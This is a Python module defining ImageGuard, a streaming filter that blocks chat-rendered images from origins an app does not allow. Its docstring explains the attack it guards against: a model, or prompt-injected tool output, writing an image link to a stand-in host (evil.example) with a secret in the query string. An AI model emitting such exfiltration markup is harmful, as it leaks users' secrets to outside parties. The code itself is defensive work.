"""Stop model text from making the browser fetch images from origins the app did not allow.

shinychat sanitizes the markdown it renders (no scripts, no event handlers, no
``javascript:`` links) but still renders images, so a model, or a prompt injection in
a tool result, could write ``![](https://evil.example/?q=<secret>)`` and the browser
would fetch it. :class:`ImageGuard` rewrites the streamed text before it leaves the
server: markdown images, ``<img>`` and ``<source>`` tags whose URLs are not ``data:``
or in the allowed origins become inert text. It is streaming-safe: text after a
possible image start (``![`` or ``<img``/``<source``/``<picture``) is held back until
the construct is complete (or clearly is not one), so a URL split across chunks is
still caught. Reference-style images (``![alt][ref]``) cannot be checked, so their
``!`` is escaped and they render as links, which load nothing by themselves.

Example:
    >>> guard = ImageGuard(["https://images.example"])
    >>> guard.feed("See ![a cat](https://evil.example/cat.png) and ") + guard.flush()
    'See *[image blocked: a cat (`https://evil.example`)]* and '
    >>> guard.feed("![ok](https://images.example/x.png)") + guard.flush()
    '![ok](https://images.example/x.png)'
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

# A markdown inline image, ![alt](url "optional title") with alt on one line, or else a
# lone "![" (the start of a reference-style image we can't resolve).
_MD_IMAGE = re.compile(
    r"(?<!\\)(?P<image>!\[(?P<alt>[^\]\n]{0,500})\]\(\s*<?(?P<url>[^)\s>]*)>?"
    r"(?:\s+\"[^\"]*\")?\s*\))|(?<!\\)!\["
)
_HTML_TAG = re.compile(r"<\s*(img|source|picture)\b[^>]*>", re.IGNORECASE | re.DOTALL)
_URL_ATTR = re.compile(r"""\b(?:src|srcset)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))""", re.I)
_STARTS = re.compile(r"!\[|<\s*(?:img|source|picture)\b|<\s*$|<\s*[a-z]{1,7}$|!$", re.I)
_HOLD_LIMIT = 4000  # a construct longer than this is not an image: let it through


def _origin(url: str) -> str | None:
    parts = urlsplit(url.strip())
    if parts.scheme.lower() not in ("http", "https") or not parts.hostname:
        return None
    port = parts.port
    default = {"http": 80, "https": 443}[parts.scheme.lower()]
    host = parts.hostname.lower()
    return f"{parts.scheme.lower()}://{host}" + (f":{port}" if port and port != default else "")


def normalize_origins(origins: Iterable[str]) -> frozenset[str]:
    """``scheme://host[:port]`` for each allowed origin (default ports dropped)."""
    out = set()
    for origin in origins:
        normal = _origin(origin)
        if normal is None:
            raise ValueError(f"{origin!r} is not an http(s) origin such as https://images.example")
        out.add(normal)
    return frozenset(out)


class ImageGuard:
    """A streaming rewriter of model text; one per streamed message."""

    def __init__(self, allowed_origins: Iterable[str] = ()) -> None:
        self.allowed = normalize_origins(allowed_origins)
        self._held = ""

    def _allowed(self, url: str) -> bool:
        url = url.strip()
        if url.lower().startswith("data:image/"):
            return True
        return _origin(url) in self.allowed

    def _rewrite_markdown(self, match: re.Match[str]) -> str:
        if match.group("image") is None:
            return "\\!["  # a reference-style image: escaped, it renders as a link
        alt, url = match.group("alt"), match.group("url")
        if self._allowed(url):
            return match.group(0)
        origin = _origin(url) or "a non-web address"
        # The origin in a code span: shown as text, not turned into a link.
        return f"*[image blocked: {alt.strip() or 'image'} (`{origin}`)]*"

    def _rewrite_tag(self, match: re.Match[str]) -> str:
        tag = match.group(0)
        urls: list[str] = []
        for quoted, single, bare in _URL_ATTR.findall(tag):
            value = quoted or single or bare
            # srcset lists "url 2x, url 640w": every URL must be allowed.
            urls.extend(part.strip().split(" ")[0] for part in value.split(",") if part.strip())
        if match.group(1).lower() == "picture" or (urls and all(self._allowed(u) for u in urls)):
            return tag
        return "*[image blocked]*"

    def _rewrite(self, text: str) -> str:
        text = _MD_IMAGE.sub(self._rewrite_markdown, text)
        return _HTML_TAG.sub(self._rewrite_tag, text)

    def feed(self, chunk: str) -> str:
        """Take a chunk; return the text that is safe to send now."""
        text = self._held + chunk
        start = _STARTS.search(text)
        if start is None:
            self._held = ""
            return self._rewrite(text)
        head, tail = text[: start.start()], text[start.start() :]
        done, rest = self._complete_prefix(tail)
        self._held = rest
        return self._rewrite(head + done)

    def _complete_prefix(self, tail: str) -> tuple[str, str]:
        """Split ``tail`` into what can be decided now and what must wait for more text."""
        position = 0
        while True:
            start = _STARTS.search(tail, position)
            if start is None:
                return tail, ""
            begin = start.start()
            end = _construct_end(tail, begin)
            if end is None:
                if len(tail) - begin > _HOLD_LIMIT:
                    position = begin + 1
                    continue
                return tail[:begin], tail[begin:]
            position = max(end, begin + 1)

    def flush(self) -> str:
        """The end of the stream: release what was held, neutralizing unfinished tags."""
        text, self._held = self._held, ""
        text = self._rewrite(text)
        return re.sub(r"<(\s*(?:img|source|picture)\b)", r"&lt;\1", text, flags=re.I)


def _construct_end(text: str, begin: int) -> int | None:
    """Where the construct starting at ``begin`` ends, or None if it may still grow."""
    rest = text[begin:]
    if rest.startswith("!"):
        if len(rest) == 1:
            return None
        if rest[1] != "[":
            return begin + 1
        close = rest.find("]")
        if close == -1:
            return None if "\n" not in rest else begin + 1
        after = rest[close + 1 : close + 2]
        if after == "":
            return None
        if after != "(":
            return begin + close + 1
        paren = rest.find(")", close)
        return None if paren == -1 else begin + paren + 1
    # An HTML tag (or what may become one).
    if re.match(r"<\s*[a-z]*$", rest, re.I):
        return None
    if not re.match(r"<\s*(?:img|source|picture)\b", rest, re.I):
        return begin + 1
    close = rest.find(">")
    return None if close == -1 else begin + close + 1
